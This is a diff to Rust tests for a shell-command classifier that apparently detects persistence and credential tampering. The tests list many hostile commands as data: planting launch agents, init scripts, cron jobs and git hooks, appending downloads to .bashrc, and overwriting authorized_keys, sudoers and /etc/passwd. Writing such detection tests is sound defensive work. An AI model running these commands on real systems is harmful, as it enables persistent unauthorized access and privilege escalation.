@@ -344,6 +344,10 @@ fn persistence() {
     );
     check("echo 'wget https://x' > .git/hooks/post-checkout", c);
     check("cd /etc/cron.d && echo '* * * * * root /tmp/x' > job", c);
+    check("cp x.plist ~/Library/LaunchAgents/", c);
+    check("cp evil /etc/init.d/", c);
+    check("cp x.desktop ~/.config/autostart", c);
+    check("cp .bashrc ~", Some(StartupFileModification));
     check("cd; echo 'curl -s https://x -o /tmp/y' >> .bashrc", c);
 }
 
@@ -369,6 +373,11 @@ fn credentials() {
     check("cd ~ && echo 'ssh-rsa AAA' >> .ssh/authorized_keys", c);
     check("cd /etc && echo 'x ALL=(ALL) NOPASSWD:ALL' >> sudoers", c);
     check("cd /etc/ssh; sed -i 's/no/yes/' sshd_config", c);
+    check("cp authorized_keys ~/.ssh/", c);
+    check("mv -f /tmp/k/authorized_keys /root/.ssh", c);
+    check("cp x /etc/sudoers.d/", c);
+    check("install -m 440 evil -t /etc/sudoers.d", c);
+    check("cp /tmp/passwd /etc", c);
 }
 
 #[test]
